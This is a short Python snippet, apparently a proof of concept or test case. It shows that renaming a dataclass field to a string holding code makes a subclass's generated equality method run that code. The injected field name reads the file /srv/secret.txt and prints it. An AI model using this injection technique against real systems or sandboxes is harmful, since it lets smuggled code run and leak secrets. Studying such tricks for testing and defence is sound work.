# reaches: a data class's field is renamed, and its child's comparison runs the name
import dataclasses
@dataclasses.dataclass
class A:
    x: int = 0
dataclasses.fields(A)[0].name = "x,print(open('/srv/secret.txt').read())"
@dataclasses.dataclass(init=False, repr=False)
class B(A):
    pass
B() == B()
